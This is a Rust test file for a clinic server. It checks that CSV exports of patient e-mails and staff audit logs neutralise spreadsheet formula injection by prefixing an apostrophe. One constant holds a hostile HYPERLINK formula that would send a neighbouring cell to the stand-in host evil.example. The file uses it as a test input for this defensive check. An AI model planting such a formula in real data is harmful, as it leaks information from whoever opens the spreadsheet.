//! Every CSV the server writes, read as a spreadsheet would: a cell that a patient or a member
//! of staff could start with a formula character comes out as text (a leading `'`), and a
//! harmless one comes out as it was saved.

use crate::common;

use arrive_domain::api::KioskAppointment;
use common::*;
use reqwest::{Client, StatusCode};
use serde_json::json;

/// A formula that would send the sheet's neighbouring cells away if a spreadsheet ran it; still
/// a valid e-mail address by the kiosk's rule (no spaces in the local part).
const HOSTILE_EMAIL: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")@example.com";

/// The patient `name`, from home with the link the desk gave out, changes their e-mail.
async fn save_email_from_home(staff: &Client, base: &str, name: &str, dob: &str, email: &str) {
    // Each visit its own idempotency key.
    let key = format!("{:032x}", board_row(staff, base, name).await.id);
    let token = token_of(&link_for(staff, base, name).await);
    let home = Client::new();
    let unlocked = unlock(base, &token, dob).await;
    assert_eq!(unlocked.status(), StatusCode::OK);
    let appointment: KioskAppointment = unlocked.json().await.unwrap();
    let mut verification = nothing_changed();
    verification["email"] = json!({"answer": "changed", "value": email});
    let finished = post(
        &home,
        &format!("{base}/api/v1/pre/finish"),
        json!({"match_token": appointment.match_token, "idempotency_key": key,
            "verification": verification}),
    )
    .await;
    assert_eq!(finished.status(), StatusCode::OK, "{name} finishes at home");
}

/// The export's rows, parsed as a CSV reader (and a spreadsheet) would.
async fn csv_rows(staff: &Client, url: &str) -> Vec<Vec<String>> {
    let response = staff.get(url).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::OK, "GET {url}");
    let text = response.text().await.unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn an_email_saved_from_home_as_a_formula_is_exported_as_text_and_a_harmless_one_as_saved() {
    let (_data, server, _kiosk) = fresh_server().await;
    let staff = staff_client(&server.url).await;
    save_email_from_home(&staff, &server.url, "Chidi O.", "1949-12-02", HOSTILE_EMAIL).await;
    save_email_from_home(
        &staff,
        &server.url,
        "Sean O.",
        "1971-09-30",
        "sean.o+clinic@example.com",
    )
    .await;
    let rows = csv_rows(&staff, &format!("{}/api/v1/desk/pre-registrations.csv", server.url)).await;
    let email_column = rows[0].iter().position(|h| h == "email").unwrap();
    let row_of = |last_name: &str| {
        rows.iter()
            .find(|r| r.iter().any(|c| c == last_name))
            .unwrap_or_else(|| panic!("{last_name}'s row"))
    };
    assert_eq!(row_of("Okafor")[email_column], format!("'{HOSTILE_EMAIL}"));
    assert_eq!(row_of("O'Brien")[email_column], "sean.o+clinic@example.com");
    // Every cell of the file: none starts with a formula character.
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
    }
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_username_starting_with_a_formula_character_is_text_in_the_audit_export() {
    let (_data, server, _kiosk) = fresh_server().await;
    let admin = staff_client(&server.url).await;
    let created = post(
        &admin,
        &format!("{}/api/v1/admin/staff", server.url),
        json!({"username": "-1", "display_name": "Minus", "role": "front_desk",
            "password": "a one-time password"}),
    )
    .await;
    assert_eq!(created.status(), StatusCode::CREATED);
    // Their sign-in is audited under their name.
    signed_in_client(&server.url, "-1", "a one-time password").await;
    let rows = csv_rows(&admin, &format!("{}/api/v1/admin/audit.csv", server.url)).await;
    assert_eq!(
        rows[0],
        ["id", "at", "staff", "action", "appointment_id", "client", "subject"]
    );
    let staff_column = 2;
    assert!(rows.iter().any(|r| r[staff_column] == "'-1"), "{rows:?}");
    assert!(rows.iter().any(|r| r[staff_column] == "admin"), "{rows:?}");
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
    }
    server.stop().await;
}
